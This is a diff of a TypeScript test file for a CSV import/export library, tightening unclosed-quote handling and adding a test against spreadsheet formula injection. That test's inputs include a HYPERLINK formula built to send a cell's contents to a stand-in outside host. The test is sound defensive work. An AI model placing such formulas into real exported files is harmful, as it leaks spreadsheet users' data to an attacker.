@@ -29,10 +29,11 @@ describe('CSV reading (RFC 4180)', () => {
     expect(fromCSV('code\ttype\tstatement\nS1\tskill\tDo, well\n').framework!.items[0].statement).to.equal('Do, well');
   });
 
-  it('reports an unclosed quote and keeps reading', () => {
-    const result = fromCSV('code,statement\nK1,"never closed\n');
-    expect(result.problems.map((p) => p.code)).to.include('csv-quote');
-    expect(result.framework!.items[0].statement).to.equal('never closed\n');
+  it('refuses a quote that never closes (the rest of the file would be one cell), naming the row', () => {
+    const result = fromCSV('code,statement\nK1,"never closed\nK2,second\nK3,third\n');
+    const problem = result.problems.find((p) => p.code === 'csv-quote')!;
+    expect(problem).to.include({ severity: 'error', path: '$.rows[2]' });
+    expect(result.framework).to.equal(undefined);
   });
 });
 
@@ -184,6 +185,25 @@ describe('toCSV and back', () => {
     expect(back.problems).to.deep.equal([]);
     expect(back.framework).to.deep.equal(fw);
     expect(fromCSV(toCSV(fw, { delimiter: ';', bom: false, newline: '\n' }), { delimiter: ';' }).framework).to.deep.equal(fw);
+  });
+
+  it('writes no live formula: a cell a spreadsheet would run is marked as text, and read back as it was', () => {
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', '@SUM(A1)', '+1+1', '-2+3', '\tTabbed', "'=already marked", "''=twice", "'plain apostrophe"];
+    const fw: Framework = {
+      format: 'ksb-framework/1',
+      id: 'formulas',
+      version: '1',
+      title: '=1+1',
+      items: hostile.map((statement, i) => ({ id: `K${i + 1}`, type: 'knowledge', statement })),
+    };
+    const text = toCSV(fw);
+    // No cell of the written file begins with a formula character, quoted or not.
+    const raw = text.split(/\r\n/).flatMap((line) => line.split(','));
+    expect(raw.some((c) => /^"?[=+\-@\t]/.test(c)), 'a live formula in the file').to.equal(false);
+    expect(raw).to.include("'=1+1");
+    const back = fromCSV(text);
+    expect(back.framework!.items.map((i) => i.statement)).to.deep.equal(hostile);
+    expect(back.framework!.title).to.equal('=1+1');
   });
 
   it('names what the layout cannot hold', () => {
